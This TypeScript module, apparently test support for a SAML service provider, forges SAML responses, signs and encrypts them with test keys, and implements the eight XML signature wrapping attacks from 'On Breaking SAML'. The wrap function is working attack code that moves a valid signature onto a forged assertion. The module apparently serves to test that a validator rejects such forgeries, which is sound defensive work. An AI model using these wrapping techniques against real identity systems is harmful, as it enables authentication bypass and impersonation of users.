import { SignedXml } from 'xml-crypto';
import { encrypt } from 'xml-encryption';
import { idp as idpKeys } from '../contracts/saml-keys.ts';

/** Everything an answer says; tests change one thing at a time. */
export type Forgery = {
  entityId: string;
  audience: string;
  recipient: string;
  destination: string | null;
  requestId: string;
  /** In the bearer confirmation, where it differs. */
  confirmedRequestId?: string;
  /** XML inside NameID. */
  nameId: string;
  nameIdAttributes: string;
  assertionId: string;
  responseId: string;
  /** Seconds from now. */
  notBefore: number;
  notOnOrAfter: number;
  confirmedUntil: number;
  authenticatedAt: number;
  status: string;
  /** XML put into the assertion after its subject, and into the response before its assertion. */
  moreConditions: string;
  moreInResponse: string;
  attributes: string;
  confirmationMethod: string;
};

const signatureAlgorithms = {
  sha256: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
  sha1: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1',
};
const digestAlgorithms = {
  sha256: 'http://www.w3.org/2001/04/xmlenc#sha256',
  sha1: 'http://www.w3.org/2000/09/xmldsig#sha1',
};

export type Signing = {
  key?: { privateKey: string; certificate: string };
  hash?: keyof typeof signatureAlgorithms;
  transforms?: string[];
};

/** The answer, unsigned. */
export function forge(said: Forgery): string {
  const at = (seconds: number) => new Date(Date.now() + seconds * 1000).toISOString();
  const destination = said.destination === null ? '' : ` Destination="${said.destination}"`;
  return [
    '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"',
    ` ID="${said.responseId}" Version="2.0" IssueInstant="${at(0)}"${destination} InResponseTo="${said.requestId}">`,
    `<saml:Issuer>${said.entityId}</saml:Issuer>`,
    `<samlp:Status><samlp:StatusCode Value="${said.status}"/></samlp:Status>${said.moreInResponse}`,
    `<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="${said.assertionId}" Version="2.0" IssueInstant="${at(0)}">`,
    `<saml:Issuer>${said.entityId}</saml:Issuer><saml:Subject><saml:NameID${said.nameIdAttributes}>${said.nameId}</saml:NameID>`,
    `<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:${said.confirmationMethod}">`,
    `<saml:SubjectConfirmationData NotOnOrAfter="${at(said.confirmedUntil)}" Recipient="${said.recipient}"`,
    ` InResponseTo="${said.confirmedRequestId ?? said.requestId}"/></saml:SubjectConfirmation></saml:Subject>`,
    `<saml:Conditions NotBefore="${at(said.notBefore)}" NotOnOrAfter="${at(said.notOnOrAfter)}">`,
    `<saml:AudienceRestriction><saml:Audience>${said.audience}</saml:Audience></saml:AudienceRestriction>`,
    `${said.moreConditions}</saml:Conditions><saml:AuthnStatement AuthnInstant="${at(said.authenticatedAt)}">`,
    '<saml:AuthnContext><saml:AuthnContextClassRef>urn:example:any</saml:AuthnContextClassRef></saml:AuthnContext>',
    `</saml:AuthnStatement>${said.attributes}</saml:Assertion></samlp:Response>`,
  ].join('');
}

/** Signs the assertion or the response, as an honest source does. */
export function sign(xml: string, what: 'Assertion' | 'Response', signing: Signing = {}): string {
  const { key = idpKeys, hash = 'sha256', transforms } = signing;
  const path = what === 'Response' ? "/*[local-name(.)='Response']" : "//*[local-name(.)='Assertion']";
  const signer = new SignedXml({
    privateKey: key.privateKey,
    publicCert: key.certificate,
    signatureAlgorithm: signatureAlgorithms[hash],
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
  });
  signer.addReference({
    xpath: path,
    digestAlgorithm: digestAlgorithms[hash],
    transforms: transforms ?? [
      'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
      'http://www.w3.org/2001/10/xml-exc-c14n#',
    ],
  });
  signer.computeSignature(xml, {
    prefix: 'ds',
    location: { reference: `${path}/*[local-name(.)='Issuer']`, action: 'after' },
  });
  return signer.getSignedXml();
}

export const parts = {
  assertion: (xml: string) => /<saml:Assertion .*<\/saml:Assertion>/s.exec(xml)?.[0] ?? '',
  signature: (xml: string) => /<ds:Signature .*?<\/ds:Signature>/s.exec(xml)?.[0] ?? '',
};

/** Puts the assertion under the given certificate's key. */
export async function encryptAssertion(
  xml: string,
  certificate: string,
  algorithms: { content?: string; key?: string } = {},
): Promise<string> {
  const assertion = parts.assertion(xml);
  const { createPublicKey } = await import('node:crypto');
  const options = {
    rsa_pub: createPublicKey(certificate).export({ type: 'spki', format: 'pem' }) as string,
    pem: certificate,
    encryptionAlgorithm: algorithms.content ?? 'http://www.w3.org/2009/xmlenc11#aes256-gcm',
    keyEncryptionAlgorithm: algorithms.key ?? 'http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p',
    warnInsecureAlgorithm: false,
  };
  const data = await new Promise<string>((resolve, reject) => {
    encrypt(assertion, options as never, (error, done) => (error ? reject(error) : resolve(done)));
  });
  return xml.replace(assertion, () => `<saml:EncryptedAssertion>${data}</saml:EncryptedAssertion>`);
}

/**
 * The eight ways of wrapping (Somorovsky and others, "On Breaking SAML", 2012; numbered as SAML Raider does): what was
 * signed is kept somewhere, and what is read says something else. `evil` turns an honest assertion into the attacker's.
 */
export function wrap(kind: 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8, evil: (assertion: string) => string, honest: string): string {
  const without = (xml: string, part: string) => xml.replace(part, () => '');
  const inside = (signature: string, object: string) =>
    signature.replace('</ds:Signature>', () => `<ds:Object>${object}</ds:Object></ds:Signature>`);
  if (kind <= 2) {
    const signed = sign(honest, 'Response');
    const signature = parts.signature(signed);
    const original = without(signed, signature);
    const changed = evil(honest).replace(/ ID="[^"]*"/, ' ID="_evil_response"');
    const issuerEnd = '</saml:Issuer>';
    const at = changed.indexOf(issuerEnd) + issuerEnd.length;
    const planted = kind === 1 ? inside(signature, original) : original + signature;
    return changed.slice(0, at) + planted + changed.slice(at);
  }
  const signed = sign(honest, 'Assertion');
  const assertion = parts.assertion(signed);
  const signature = parts.signature(signed);
  const bare = without(assertion, signature);
  const forged = evil(bare);
  const holdingSignature = (object = '') =>
    forged.replace('</saml:Issuer>', () => `</saml:Issuer>${object ? inside(signature, object) : signature}`);
  const placed: Record<number, string> = {
    3: forged + assertion,
    4: forged.replace('</saml:Assertion>', () => `${assertion}</saml:Assertion>`),
    5: holdingSignature() + bare,
    6: holdingSignature(bare),
    7: `<samlp:Extensions>${forged}</samlp:Extensions>${assertion}`,
    8: assertion
      .replace(signature, () => inside(signature, bare))
      .replace(
        /^<saml:Assertion .*?<\/saml:Subject>/s,
        () => /^<saml:Assertion .*?<\/saml:Subject>/s.exec(forged)?.[0] ?? '',
      ),
  };
  return signed.replace(assertion, () => placed[kind] ?? '');
}
